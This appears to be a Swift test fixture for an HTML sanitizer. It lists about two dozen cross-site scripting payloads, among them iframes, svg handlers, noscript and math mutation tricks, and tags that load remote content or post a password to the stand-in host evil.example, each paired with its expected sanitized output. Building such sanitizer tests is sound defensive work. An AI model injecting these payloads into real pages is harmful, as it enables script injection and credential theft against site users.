extension Attack {
  /// Elements that ask, embed or change how a page is read.
  static let elements: [Attack] = [
    Attack(
      "an inline frame",
      "<iframe src=javascript:alert(1)></iframe>",
      ""),
    Attack(
      "an inline frame with a document",
      #"<iframe srcdoc="<script>alert(1)</script>">x</iframe>"#,
      ""),
    Attack(
      "an object",
      "<object data=javascript:alert(1)>x</object>",
      "<p>x</p>\n"),
    Attack(
      "an embedded file",
      "<embed src=//evil.example/x.swf>x",
      "<p>x</p>\n"),
    Attack(
      "a base",
      "<base href=//evil.example/>x",
      "x\n"),
    Attack(
      "a refresh",
      #"<meta http-equiv=refresh content="0;url=javascript:alert(1)">x"#,
      "<p>x</p>\n"),
    Attack(
      "a style sheet",
      "<link rel=stylesheet href=//evil.example/x.css>x",
      "x\n"),
    Attack(
      "a form",
      "<form action=//evil.example/><input name=password><button formaction=javascript:alert(1)>Go</button></form>",
      "Go\n"),
    Attack(
      "a text area",
      "<textarea autofocus onfocus=alert(1)>x</textarea>",
      ""),
    Attack(
      "a choice",
      "<select onfocus=alert(1)><option>x</option></select>y",
      "<p>y</p>\n"),
    Attack(
      "a drawing with a handler",
      "<svg onload=alert(1)><circle/></svg>",
      "<p></p>\n"),
    Attack(
      "a drawing that hides a script",
      "<svg><style><img src=x onerror=alert(1)></style></svg>x",
      "<p>x</p>\n"),
    Attack(
      "a drawing with a link",
      #"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
      "<p></p>\n"),
    Attack(
      "a formula that changes the parser",
      #"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">"#,
      "<p></p>\n"),
    Attack(
      "a foreign end tag",
      #"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
      "<p><a></a></p>\n"),
    Attack(
      "a title that holds a tag",
      "<title><img src=x onerror=alert(1)></title>x",
      "x\n"),
    Attack(
      "text that is no markup in an xmp",
      #"<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>"#,
      "<p></p>\n"),
    Attack(
      "a noscript that ends in an attribute",
      #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
      "<p></p>\n"),
    Attack(
      "a noscript in a noscript",
      "<noscript><noscript><img src=x onerror=alert(1)></noscript></noscript>x",
      "<p>x</p>\n"),
    Attack(
      "plain text to the end",
      "<div><plaintext><img src=x onerror=alert(1)>",
      "<div></div>\n"),
    Attack(
      "a template",
      "<template><script>alert(1)</script></template>x",
      "<p>x</p>\n"),
    Attack(
      "a custom element",
      "<x-y onclick=alert(1)>x</x-y>",
      "<p>x</p>\n"),
    Attack(
      "a marquee",
      "<marquee onstart=alert(1)>x</marquee>",
      "<p>x</p>\n"),
    Attack(
      "a key frame of details",
      "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
      #"<details open=""><summary>x</summary>y</details>\#n"#),
  ]
}
